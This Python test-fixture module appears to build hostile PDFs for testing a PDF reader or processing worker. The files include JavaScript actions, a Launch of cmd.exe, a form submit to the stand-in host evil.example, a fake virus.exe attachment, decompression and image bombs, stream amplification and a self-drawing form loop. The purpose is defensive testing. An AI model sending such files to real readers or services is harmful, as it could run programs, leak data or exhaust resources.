"""PDFs made to harm a reader or a worker: active content, bombs, amplification, loops."""

import io
import zlib

import pikepdf
from pikepdf import Dictionary, Name

from tests.pdfs import make_pdf


def _save(pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def active_content() -> bytes:
    """One page with every kind of active content, plus the links a reader must keep."""
    pdf = pikepdf.open(io.BytesIO(make_pdf(2, "AKTIVTEKST")))
    js = Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert('hej')"))
    pdf.Root.OpenAction = pdf.make_indirect(js)
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=pikepdf.String("1")))
    attachment = pdf.make_stream(b"MZ\x90\x00 not really a program")
    attachment.Type = Name.EmbeddedFile
    spec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=pikepdf.String("virus.exe"), EF=Dictionary(F=attachment))
    )
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=pikepdf.Array([pikepdf.String("a"), pdf.make_indirect(js)])),
        EmbeddedFiles=Dictionary(Names=pikepdf.Array([pikepdf.String("virus.exe"), spec])),
    )
    pdf.Root.AcroForm = Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    page = pdf.pages[0]
    page.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=pikepdf.String("2")))

    def link(y, action):
        return pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=[72, y, 300, y + 14],
                Border=[0, 0, 0],
                A=action,
            )
        )

    page.obj.Annots = pikepdf.Array(
        [
            link(600, Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))),
            link(
                580,
                Dictionary(
                    S=Name.SubmitForm,
                    F=Dictionary(FS=Name.URL, F=pikepdf.String("https://evil.example/")),
                ),
            ),
            link(560, Dictionary(S=Name.ImportData, F=pikepdf.String("data.fdf"))),
            link(540, Dictionary(S=Name.JavaScript, JS=pikepdf.String("3"))),
            link(520, Dictionary(S=Name.URI, URI=pikepdf.String("javascript:alert(1)"))),
            link(500, Dictionary(S=Name.URI, URI=pikepdf.String("https://www.kl.dk/"))),
            link(480, Dictionary(S=Name.URI, URI=pikepdf.String("mailto:kkr@kl.dk"))),
            link(460, Dictionary(S=Name.GoTo, D=pikepdf.Array([pdf.pages[1].obj, Name.Fit]))),
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[72, 440, 90, 458], FS=spec
                )
            ),
        ]
    )
    return _save(pdf)


def content_bomb(decoded_mb: int = 1100, streams: int = 1) -> bytes:
    """A small file whose page content inflates to decoded_mb megabytes (1000:1), in `streams`
    streams of that size each."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    compressor = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    data = b"".join(compressor.compress(chunk) for _ in range(decoded_mb)) + compressor.flush()
    contents = [pdf.make_stream(data, Filter=Name.FlateDecode) for _ in range(streams)]
    pdf.pages[0].obj.Contents = contents[0] if streams == 1 else pikepdf.Array(contents)
    # The stream is stored as it is (already deflated), not decoded on save.
    return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def image_bomb() -> bytes:
    """An image of 100,000 × 100,000 pixels in a few hundred bytes."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    image = pdf.make_stream(zlib.compress(b"\x00" * 1000), Filter=Name.FlateDecode)
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height, image.BitsPerComponent, image.ColorSpace = (
        100_000,
        100_000,
        8,
        Name.DeviceGray,
    )
    page = pdf.pages[0]
    page.obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
    page.obj.Contents = pdf.make_stream(b"q 500 0 0 700 50 50 cm /Im0 Do Q")
    return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def shared_stream_amplification(references: int = 20_000, stream_mb: int = 8) -> bytes:
    """A small file whose one page draws one 8 MB stream 20,000 times."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    stream = pdf.make_stream(
        zlib.compress(b"0 0 m\n" * (stream_mb * (1 << 20) // 6), 9), Filter=Name.FlateDecode
    )
    pdf.pages[0].obj.Contents = pikepdf.Array([stream] * references)
    return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def many_pages(count: int) -> bytes:
    """count pages sharing one content stream, the page tree written directly (fast)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    first = pdf.pages[0].obj
    content = pdf.make_stream(b"0 0 m")
    tree = pdf.Root.Pages
    kids = [first]
    for _ in range(count - 1):
        kids.append(
            pdf.make_indirect(
                Dictionary(Type=Name.Page, Parent=tree, MediaBox=first.MediaBox, Contents=content)
            )
        )
    tree.Kids = pikepdf.Array(kids)
    tree.Count = count
    return _save(pdf)


def form_loop() -> bytes:
    """A page that draws a form that draws itself."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    form = pdf.make_stream(b"/Fm0 Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 10, 10])
    form.Resources = Dictionary(XObject=Dictionary(Fm0=form))
    page = pdf.pages[0]
    page.obj.Resources = Dictionary(XObject=Dictionary(Fm0=form))
    page.obj.Contents = pdf.make_stream(b"/Fm0 Do")
    return _save(pdf)


def rotated(degrees: int) -> bytes:
    pdf = pikepdf.open(io.BytesIO(make_pdf(1, "DREJET")))
    pdf.pages[0].obj.Rotate = degrees
    return _save(pdf)


def certificate_encrypted() -> bytes:
    """The shape of a public-key (certificate) encrypted file: a /Adobe.PubSec /Encrypt."""
    pdf = pikepdf.open(io.BytesIO(make_pdf(1)))
    data = _save(pdf, encryption=pikepdf.Encryption(owner="ejer", user="x", R=4))
    return data.replace(b"/Standard", b"/Adobe.PubSec")
